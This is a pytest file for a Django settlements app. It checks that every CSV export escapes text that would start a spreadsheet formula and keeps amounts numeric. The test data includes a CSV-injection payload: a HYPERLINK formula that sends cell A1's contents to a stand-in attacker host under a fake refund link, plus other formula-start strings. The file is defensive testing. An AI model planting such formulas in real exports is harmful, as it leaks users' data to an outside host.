"""CSV exports open safely in a spreadsheet (exports.spreadsheets): text that would start a
formula is escaped with a leading quote, amounts stay numbers, in every export."""

import csv
import io
import json
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse

from settlements.exports import ledger
from settlements.exports.spreadsheets import FORMULA_STARTS, safe_cell
from settlements.selectors.payments.lines import approved_lines
from settlements.services import settlements as settlement_services
from settlements.services.compensation import (
    CompensationEntry,
    compensation_approve,
    compensation_propose,
)
from settlements.services.incidents import incident_report
from settlements.services.payments import payment_confirm
from settlements.services.settlements import AdjustmentEntry
from settlements.services.snapshots import case_load_snapshot, case_withdraw
from tests.conftest import build_snapshot

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
# The characters OWASP lists, their full-width forms, and ids that begin with them.
HOSTILE = [HYPERLINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠A1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["alice", "p000001", "1+1", " =1", "'=1", "", "x=1", "€-5"])
def test_other_text_is_left_as_it_is(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-250, 0, 12345, Decimal("-2.50"), Decimal("12.345"), None])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) is value


def read(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


# Ids may not hold a tab or carriage return (settlements.player_ids), so those two are tried
# in a reason, which may.
HOSTILE_IDS = [text for text in HOSTILE if text[0] not in "\t\r"]


@pytest.fixture
def hostile_case(operator):
    """A case whose tournament id and player ids are formulas."""
    doc = build_snapshot(tournament_id=HYPERLINK, stage="late", entrants=len(HOSTILE_IDS))
    for player, text in zip(doc["players"], HOSTILE_IDS, strict=True):
        player["id"] = text
    return case_load_snapshot(actor=operator, snapshot=json.dumps(doc))


def assert_escaped(rows: list[dict], column: str, expected: set[str]) -> None:
    assert {row[column] for row in rows} >= {"'" + text for text in expected}
    for row in rows:
        assert row[column][:1] not in FORMULA_STARTS, row


@pytest.mark.django_db
def test_ledgers_escape_ids_and_keep_amounts_numeric(
    operator, tournament_manager, second_manager, hostile_case
):
    case = hostile_case
    settlement = settlement_services.settlement_prepare(case=case, actor=operator)
    settlement = settlement_services.settlement_submit(settlement=settlement, actor=operator)
    settlement = settlement_services.settlement_approve(
        settlement=settlement, actor=tournament_manager
    )
    rows = read("".join(ledger.settlement_ledger_csv(settlement)))
    assert_escaped(rows, "tournament", {HYPERLINK})
    paid = {row["player"] for row in rows}
    assert paid and all(player.startswith("'") for player in paid)

    # An adjustment's reversal is a negative amount: still a number, not text with a quote.
    first = settlement.lines.order_by("line_no").first()
    adjustment = settlement_services.settlement_adjust(
        settlement=settlement,
        actor=operator,
        reason="-1 wrong line",
        entries=[
            AdjustmentEntry(first.player, first.kind, first.unit, -first.amount, first.source)
        ],
    )
    adjustment = settlement_services.settlement_submit(settlement=adjustment, actor=operator)
    adjustment = settlement_services.settlement_approve(settlement=adjustment, actor=second_manager)
    [reversal] = read("".join(ledger.settlement_ledger_csv(adjustment)))
    assert reversal["amount_minor"] == str(-first.amount)
    assert reversal["amount"] == ledger.decimal_amount(-first.amount, first.unit, "USD")
    assert reversal["amount"].startswith("-")
    assert reversal["player"] == "'" + first.player

    compensation = compensation_propose(
        case=case,
        actor=operator,
        reason="@lag",
        entries=[CompensationEntry(text, 100) for text in HOSTILE_IDS],
    )
    compensation = compensation_approve(compensation=compensation, actor=tournament_manager)
    rows = read("".join(ledger.compensation_ledger_csv(compensation)))
    assert_escaped(rows, "player", set(HOSTILE_IDS))
    assert_escaped(rows, "tournament", {HYPERLINK})
    assert {row["amount"] for row in rows} == {"1.00"}


@pytest.mark.django_db
def test_the_history_export_escapes_ids_and_reasons(
    operator, tournament_manager, auditor, hostile_case
):
    case_withdraw(case=hostile_case, actor=operator, reason="\t=1+1 " + HYPERLINK)
    client = Client()
    client.force_login(auditor)
    for view in ("changes", "events"):
        response = client.get(reverse("history_export"), {"view": view})
        rows = read(b"".join(response.streaming_content).decode())
        reasons = {row["reason"] for row in rows if row["reason"]}
        # The service trims the reason; what is left still starts a formula.
        assert "'=1+1 " + HYPERLINK in reasons
        for row in rows:
            assert all(value[:1] not in FORMULA_STARTS for value in row.values()), row
    events = read(
        b"".join(
            client.get(reverse("history_export"), {"view": "events"}).streaming_content
        ).decode()
    )
    assert "'" + HYPERLINK in {row["tournament"] for row in events}


@pytest.mark.django_db
def test_statement_and_payment_exports_escape_ids_and_references(
    operator, tournament_manager, auditor, cashier
):
    """The exports added with the statements and the payments follow the same rule: every
    text cell, whether a player id, a tournament id, a statement's sentence or a cashier's
    reference, is safe to open."""
    from django.utils import timezone

    from settlements.services.payments import ConfirmationEntry

    incident = incident_report(actor=operator, title="=1+1", started_at=timezone.now())
    doc = build_snapshot(tournament_id=HYPERLINK, stage="early", entrants=len(HOSTILE_IDS))
    for player, text in zip(doc["players"], HOSTILE_IDS, strict=True):
        player["id"] = text
    case = case_load_snapshot(actor=operator, snapshot=json.dumps(doc), incident=incident)
    settlement = settlement_services.settlement_prepare(case=case, actor=operator)
    settlement = settlement_services.settlement_submit(settlement=settlement, actor=operator)
    settlement = settlement_services.settlement_approve(
        settlement=settlement, actor=tournament_manager
    )
    line = next(approved_lines())
    payment_confirm(
        actor=cashier,
        confirmations=[
            ConfirmationEntry(line.key, "failed", HYPERLINK, timezone.now(), line.amount)
        ],
    )
    client = Client()
    client.force_login(auditor)
    exports = {
        name: b"".join(client.get(url).streaming_content).decode()
        for name, url in (
            ("settlement", reverse("settlement_statements_csv", args=[settlement.pk])),
            ("incident", reverse("incident_statements_csv", args=[incident.pk])),
            ("audit", reverse("payments_audit_export")),
            ("batch", reverse("incident_payments_csv", args=[incident.pk])),
        )
    }
    for name in ("settlement", "incident"):
        rows = read(exports[name])
        assert_escaped(rows, "player", set(HOSTILE_IDS))
        assert {row["tournament"] for row in rows} == {"'" + HYPERLINK}
    assert "'" + HYPERLINK in {row["external_reference"] for row in read(exports["audit"])}
    batch = read(exports["batch"].split("\r\n\r\n")[0])
    assert batch and all(row["player"].startswith("'") for row in batch)
    for name, text in exports.items():
        for row in csv.reader(io.StringIO(text)):
            assert all(cell[:1] not in FORMULA_STARTS for cell in row), (name, row)
